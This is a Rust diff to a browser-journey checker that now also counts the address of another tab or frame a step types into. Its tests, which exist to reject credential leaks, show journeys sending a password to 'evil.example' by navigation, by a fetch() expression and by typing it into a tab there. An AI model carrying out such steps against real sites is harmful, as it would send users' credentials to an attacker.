@@ -101,7 +101,10 @@ fn receivers(spec: &ProbeSpec, pointer: &str) -> BTreeSet<String> {
 
 /// What a step of a journey may send something to.
 fn reached_by(step: &Step) -> Vec<String> {
-    match &step.act {
+    // What is typed into another tab or frame goes to its address.
+    let elsewhere = step.place.elsewhere().map(origin);
+    let mut reached: Vec<_> = elsewhere.into_iter().collect();
+    reached.extend(match &step.act {
         Act::Navigate { url } => vec![origin(url)],
         Act::CustomStep { parameters, .. } => {
             let urls = parameters.values().filter(|value| value.contains("://"));
@@ -110,7 +113,8 @@ fn reached_by(step: &Step) -> Vec<String> {
         // An expression is a program in the page: another one may send what was typed elsewhere.
         Act::WaitForExpression { expression } => vec![format!("expression {expression}")],
         _ => Vec::new(),
-    }
+    });
+    reached
 }
 
 fn origin(url: &str) -> String {
@@ -273,12 +277,17 @@ mod tests {
         let open = |url: &str| step(Act::Navigate { url: url.into() });
         let until =
             |expression: &str| step(Act::WaitForExpression { expression: expression.into() });
+        let typed_at = |target: &str| Step {
+            place: Place { target: Some(target.into()), frame: Vec::new() },
+            ..step(Act::Change { value: "{{password}}".into(), selectors: Vec::new() })
+        };
         let known = journey(vec![open("https://a.example/login"), until("done")], "pw");
         let same = vec![open("https://a.example/start"), until("done")];
         keep(journey(same, HIDDEN), Some(&known)).unwrap();
         for changed in [
             vec![open("https://a.example/login"), open("https://evil.example")],
             vec![open("https://a.example/login"), until("fetch('https://evil.example')")],
+            vec![open("https://a.example/login"), until("done"), typed_at("https://evil.example/")],
         ] {
             assert!(keep(journey(changed, HIDDEN), Some(&known)).is_err());
         }
